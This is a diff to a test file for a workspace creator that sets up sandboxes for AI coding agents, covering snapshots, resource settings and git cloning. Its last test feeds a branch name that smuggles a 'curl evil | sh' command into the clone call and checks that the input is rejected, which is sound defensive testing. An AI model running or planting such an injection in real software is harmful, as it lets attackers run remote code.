@@ -4,6 +4,8 @@ import { WorkspaceManager } from './workspace-manager'
 import { WorkspaceInstaller } from './workspace-installer'
 import { WorkspaceServices } from './workspace-services'
 import { Sandbox } from '@daytonaio/sdk'
+import type { WorkspaceSnapshot } from './workspace-snapshots'
+import { AGENTS } from './agent-registry'
 
 // Mock dependencies
 vi.mock('./workspace-manager')
@@ -41,6 +43,8 @@ vi.mock('./logger', () => ({
     logWorkspace: vi.fn(),
     logError: vi.fn(),
     info: vi.fn(),
+    warn: vi.fn(),
+    time: vi.fn((_label: string, operation: () => Promise<unknown>) => operation()),
   },
 }))
 
@@ -55,6 +59,7 @@ describe('WorkspaceCreator', () => {
     logWorkspace: ReturnType<typeof vi.fn>
     logError: ReturnType<typeof vi.fn>
     info: ReturnType<typeof vi.fn>
+    warn: ReturnType<typeof vi.fn>
   }
 
   const apiKey = 'test-api-key'
@@ -82,11 +87,13 @@ describe('WorkspaceCreator', () => {
     // Mock WorkspaceManager
     mockWorkspaceManager = {
       createSandbox: vi.fn().mockResolvedValue(mockSandbox),
+      getSnapshotVolume: vi.fn().mockResolvedValue({ id: 'volume-1' }),
     } as unknown as WorkspaceManager
 
     // Mock WorkspaceInstaller with all install methods
     mockWorkspaceInstaller = {
       installSystemPackages: vi.fn().mockResolvedValue(undefined),
+      installNodeRuntime: vi.fn().mockResolvedValue(undefined),
       installGitHubCLI: vi.fn().mockResolvedValue(undefined),
       installTtyd: vi.fn().mockResolvedValue(undefined),
       ensureCLITools: vi.fn().mockResolvedValue(undefined),
@@ -138,7 +145,7 @@ describe('WorkspaceCreator', () => {
       expect(mockWorkspaceInstaller.installSystemPackages).toHaveBeenCalledWith(mockSandbox, rootDir)
       expect(mockWorkspaceInstaller.installGitHubCLI).toHaveBeenCalledWith(mockSandbox, rootDir)
       expect(mockWorkspaceInstaller.installTtyd).toHaveBeenCalledWith(mockSandbox, rootDir)
-      expect(mockWorkspaceInstaller.ensureCLITools).toHaveBeenCalledWith(mockSandbox, rootDir)
+      expect(mockWorkspaceInstaller.ensureCLITools).toHaveBeenCalledWith(mockSandbox, rootDir, AGENTS)
       expect(mockWorkspaceInstaller.installOhMyZsh).toHaveBeenCalledWith(mockSandbox, rootDir)
 
       // Verify proper response
@@ -175,6 +182,7 @@ describe('WorkspaceCreator', () => {
       // Verify call order by checking call indices
       const installCalls = [
         mockWorkspaceInstaller.installSystemPackages,
+        mockWorkspaceInstaller.installNodeRuntime,
         mockWorkspaceInstaller.installGitHubCLI,
         mockWorkspaceInstaller.installTtyd,
         mockWorkspaceInstaller.ensureCLITools,
@@ -254,13 +262,133 @@ describe('WorkspaceCreator', () => {
         mockWorkspaceInstaller.installSystemPackages,
         mockWorkspaceInstaller.installGitHubCLI,
         mockWorkspaceInstaller.installTtyd,
-        mockWorkspaceInstaller.ensureCLITools,
         mockWorkspaceInstaller.installOhMyZsh,
       ]
 
       installationMethods.forEach((method) => {
         expect(method).toHaveBeenCalledWith(mockSandbox, rootDir)
       })
+      // Agent CLIs also receive the agents to install
+      expect(mockWorkspaceInstaller.ensureCLITools).toHaveBeenCalledWith(mockSandbox, rootDir, AGENTS)
+    })
+  })
+
+  describe('resource profiles and images', () => {
+    it('passes the selected resources and image to the sandbox', async () => {
+      await workspaceCreator.createWorkspace({
+        resources: { cpu: 1, memory: 2, disk: 5 },
+        image: 'python',
+      })
+
+      expect(mockWorkspaceManager.createSandbox).toHaveBeenCalledWith({
+        cpu: 1,
+        memory: 2,
+        disk: 5,
+        image: 'python',
+        volumes: [{ volumeId: 'volume-1', mountPath: '/agentsos-snapshots' }],
+      })
+      expect(mockLogger.logWorkspace).toHaveBeenCalledWith(
+        expect.any(String),
+        expect.objectContaining({ image: 'python:3.12' })
+      )
+    })
+  })
+
+  describe('snapshots', () => {
+    const snapshot: WorkspaceSnapshot = {
+      id: 'snapshot-1',
+      name: 'Before upgrade',
+      sourceSandboxId: 'old-sandbox',
+      status: 'ready',
+      archivePath: '/agentsos-snapshots/snapshot-1.tar.gz',
+      repositories: [
+        {
+          id: 'repo1',
+          name: 'test-repo',
+          url: 'https://github.com/test/repo',
+          sourceType: 'github',
+          ports: { vscode: 8080, terminal: 9999, claude: 9998, gemini: 9997 },
+        },
+      ],
+      globalPackages: { '@anthropic-ai/claude-code': '1.0.0' },
+      createdAt: '2024-06-03T12:00:00.000Z',
+    }
+
+    it('only waits for the snapshot volume when restoring a snapshot', async () => {
+      await workspaceCreator.createWorkspace({ resources: { cpu: 1, memory: 2, disk: 5 } })
+      expect(mockWorkspaceManager.getSnapshotVolume).toHaveBeenLastCalledWith(false)
+
+      await workspaceCreator.createWorkspace({ snapshot })
+      expect(mockWorkspaceManager.getSnapshotVolume).toHaveBeenLastCalledWith(true)
+    })
+
+    it('creates the sandbox without the volume when it is unavailable', async () => {
+      vi.mocked(mockWorkspaceManager.getSnapshotVolume).mockRejectedValue(new Error('quota exceeded'))
+
+      await workspaceCreator.createWorkspace({ resources: { cpu: 1, memory: 2, disk: 5 } })
+
+      expect(mockWorkspaceManager.createSandbox).toHaveBeenCalledWith(expect.not.objectContaining({ volumes: expect.anything() }))
+      expect(mockLogger.warn).toHaveBeenCalledWith(expect.stringContaining('quota exceeded'))
+    })
+
+    it('restores a snapshot instead of cloning its repositories', async () => {
+      await workspaceCreator.createWorkspace({ snapshot })
+
+      const commands = vi.mocked(mockSandbox.process.executeCommand).mock.calls.map(([command]) => command)
+      expect(commands.some(command => command.includes('git clone'))).toBe(false)
+      expect(commands).toContain(`test -f "${snapshot.archivePath}" && tar -xzf "${snapshot.archivePath}" -C "${rootDir}"`)
+      expect(commands).toContain('npm install -g "@anthropic-ai/claude-code@1.0.0"')
+      expect(mockWorkspaceServices.setupRepositoryServices).toHaveBeenCalledWith(mockSandbox, rootDir, snapshot.repositories, undefined, AGENTS)
+    })
+
+    it('only installs and starts the agents the workspace enables', async () => {
+      const gemini = AGENTS.filter(agent => agent.id === 'gemini')
+
+      await workspaceCreator.createWorkspace({ agents: ['gemini'] })
+
+      expect(mockWorkspaceInstaller.ensureCLITools).toHaveBeenCalledWith(mockSandbox, rootDir, gemini)
+      expect(mockWorkspaceServices.setupRepositoryServices).toHaveBeenCalledWith(mockSandbox, rootDir, expect.any(Array), undefined, gemini)
+    })
+
+    it('fails the restore without the snapshot volume', async () => {
+      vi.mocked(mockWorkspaceManager.getSnapshotVolume).mockRejectedValue(new Error('quota exceeded'))
+
+      await expect(workspaceCreator.createWorkspace({ snapshot })).rejects.toThrow('quota exceeded')
+      expect(mockWorkspaceManager.createSandbox).not.toHaveBeenCalled()
+    })
+  })
+
+  describe('cloning repositories', () => {
+    const repository = {
+      id: 'repo1',
+      name: 'api',
+      url: 'https://github.com/acme/api',
+      sourceType: 'github' as const,
+      ports: { vscode: 8080, terminal: 9999, claude: 9998, gemini: 9997 },
+    }
+    const commands = () => vi.mocked(mockSandbox.process.executeCommand).mock.calls
+
+    it('clones at the requested commit with depth and submodules', async () => {
+      const commit = 'a'.repeat(40)
+
+      await workspaceCreator.createWorkspace({ repositories: [{ ...repository, commit, depth: 1, submodules: true }] })
+
+      expect(commands()).toContainEqual([
+        'cd "/home/user/projects" && git clone --no-checkout --depth 1 "https://github.com/acme/api" "api"',
+        '/home/user/projects',
+      ])
+      expect(commands()).toContainEqual([
+        `git fetch --depth 1 origin ${commit} && git checkout --detach FETCH_HEAD && git submodule update --init --recursive`,
+        '/home/user/projects/api',
+      ])
+    })
+
+    it('refuses branch names that could run commands', async () => {
+      await expect(workspaceCreator.createWorkspace({
+        repositories: [{ ...repository, branch: 'main"; curl evil | sh; "' }]
+      })).rejects.toThrow('Invalid clone options')
+
+      expect(commands().some(([command]) => command.includes('git clone'))).toBe(false)
     })
   })
 